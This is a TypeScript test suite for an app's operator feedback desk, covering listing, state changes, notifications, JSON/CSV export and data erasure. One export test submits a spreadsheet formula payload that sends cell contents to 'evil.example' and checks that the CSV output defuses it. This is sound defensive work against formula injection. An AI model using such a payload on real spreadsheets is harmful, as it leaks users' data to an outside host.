import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { listMyFeedback, submitForm } from '@weft/contract/forms.ts';
import { listNotifications, updateNotification } from '@weft/contract/notifications.ts';
import { handleFeedback, listFeedback } from '@weft/contract/operator-feedback.ts';
import { listActs } from '@weft/contract/operator-work.ts';
import { arrive, type Person } from '../../../test/kit/person.ts';
import { refusal } from '../../../test/kit/refusal.ts';
import { testServer } from '../../../test/kit/server.ts';
import { sql } from '../../core/db/statement.ts';
import { personalData } from '../../personal-data.ts';
import { asCsv, asJson, cellOf } from './feedback-file.ts';

describe('feedback at the operator’s desk', async () => {
  const { url, db } = await testServer();
  const root = await arrive(url, 'root');
  const ada = await arrive(url, 'ada');
  await db.rows(sql`update users set role = 'admin' where id = ${root.id}`);
  const send = async (person: Person, title: string, type: 'bug_report' | 'feature_request' = 'bug_report') =>
    (
      await person.call(submitForm, {
        body: {
          type,
          clientKey: title.replaceAll(/\W+/g, '-').slice(0, 64),
          title,
          description: 'It hangs',
          metadata: { page: '/' },
        },
      })
    ).report;
  const handle = (reportId: string, state: 'open' | 'planned' | 'done', version: number, note = '') =>
    root.call(handleFeedback, { params: { reportId }, body: { state, version, note } });
  const inbox = async () =>
    (await ada.call(listNotifications)).items.filter(({ about }) => about.kind === 'feedback.handled');

  test('is listed by state and kind, page by page', async () => {
    for (const n of [1, 2, 3]) await send(ada, `Wish ${n}`, 'feature_request');
    const { id } = await send(ada, 'Fault');
    const titles = async (query: object) =>
      (await root.call(listFeedback, { query })).items.map(({ title }) => title);
    assert.deepEqual(await titles({}), ['Fault', 'Wish 3', 'Wish 2', 'Wish 1']);
    assert.deepEqual(await titles({ type: 'bug_report' }), ['Fault']);
    await handle(id, 'planned', 1);
    assert.deepEqual(await titles({ state: 'planned' }), ['Fault']);
    assert.deepEqual(await titles({ state: 'open', type: 'bug_report' }), []);
    const first = await root.call(listFeedback, { query: { limit: 3 } });
    const rest = await root.call(listFeedback, { query: { limit: 3, cursor: first.nextCursor ?? '' } });
    assert.deepEqual([first.items.length, rest.items.length, rest.nextCursor], [3, 1, null]);
    assert.equal(rest.items[0]?.by.username, 'ada');
  });

  test('who sent it sees what becomes of it and is told, once for what they have not read', async () => {
    const { id } = await send(ada, 'Slow');
    const before = (await inbox()).length;
    const { report } = await handle(id, 'planned', 1, 'Next week');
    assert.deepEqual([report.state, report.version, report.handledBy], ['planned', 2, 'root']);
    const [mine] = (await ada.call(listMyFeedback)).items;
    assert.deepEqual([mine?.state, mine?.note], ['planned', 'Next week']);
    assert.equal((await inbox()).length, before + 1);
    assert.equal(await refusal(handle(id, 'done', 1)), 'conflict', 'somebody else was quicker');
    await handle(id, 'open', 2);
    assert.equal((await inbox()).length, before, 'taken back before it was read: it was never so');
    await handle(id, 'done', 3);
    const [told] = await inbox();
    assert.deepEqual(told?.about, { kind: 'feedback.handled', reportId: id, title: 'Slow', state: 'done' });
    await ada.call(updateNotification, {
      params: { notificationId: told?.id ?? '' },
      body: { read: true },
    });
    await handle(id, 'open', 4);
    const [again] = await inbox();
    assert.equal(again?.about.kind === 'feedback.handled' && again.about.state, 'open');
    await handle(id, 'open', 5, 'Only a word');
    assert.equal((await inbox()).length, before + 2, 'a word is no other state');
    const { items } = await root.call(listActs, { query: { act: 'feedback.handle' } });
    assert.deepEqual([items[0]?.subject.name, items[1]?.detail], ['Slow', { state: 'open', before: 'done' }]);
  });

  test('is saved whole, and a spreadsheet runs nothing of it', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    await send(ada, hostile);
    await send(ada, 'Über “quotes”, "these" and\nlines');
    const fetched = async (query: string) => {
      const answer = await root.fetch(`/api/operator/feedback/export?${query}`);
      assert.equal(answer.status, 200);
      return { text: await answer.text(), headers: answer.headers };
    };
    const json = JSON.parse((await fetched('format=json')).text) as { title: string }[];
    const all = (await root.call(listFeedback, { query: { limit: 100 } })).items;
    assert.deepEqual(json, all);
    assert.deepEqual(JSON.parse((await fetched('format=json&state=declined')).text), []);
    const { text, headers } = await fetched('format=csv');
    assert.match(headers.get('content-disposition') ?? '', /^attachment; filename="feedback-[\d-]+\.csv"/);
    assert.equal(headers.get('content-type'), 'text/csv; charset=utf-8');
    assert.ok(text.includes(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`));
    assert.ok(text.includes(`,"Über “quotes”, ""these"" and\nlines",`));
    assert.equal(text.split('\r\n').length, all.length + 2, 'a heading, a line for each, and an end');
    assert.equal((await fetched('format=csv&type=feature_request')).text.split('\r\n').length, 5);
  });

  test('whatever a cell begins with, it is text', async () => {
    for (const text of ['=1', '+1', '-1', '@a', '\t=1', '  =1', '\r=1', '\n=1', '|a', '%a', '＝1'])
      assert.equal(cellOf(text), `"'${text}"`, JSON.stringify(text));
    for (const text of ['', 'a=1', '1-1', 'a@b']) assert.equal(cellOf(text), `"${text}"`);
    const nothing = async function* (): AsyncGenerator<never> {};
    const whole = async (parts: AsyncIterable<string>) => {
      let text = '';
      for await (const part of parts) text += part;
      return text;
    };
    assert.equal(await whole(asJson(nothing())), '[]\n');
    assert.match(await whole(asCsv(nothing())), /^\uFEFF"id","type","state".*\r\n$/);
  });

  test('goes with whoever wrote it, and stands in their export until then', async () => {
    const { exports, erasures } = personalData();
    const part = exports.find(({ name }) => name === 'forms');
    const own = JSON.stringify(await part?.read(db, ada.id));
    assert.ok(own.includes('It hangs') && !own.includes('root'));
    const erase = erasures.find(({ name }) => name === 'forms');
    await db.transaction(async (tx) => erase?.erase(tx, root.id));
    assert.ok(
      (await root.call(listFeedback, { query: {} })).items.every(({ handledBy }) => handledBy === null),
    );
    await db.transaction(async (tx) => erase?.erase(tx, ada.id));
    assert.deepEqual((await root.call(listFeedback, { query: {} })).items, []);
  });
});
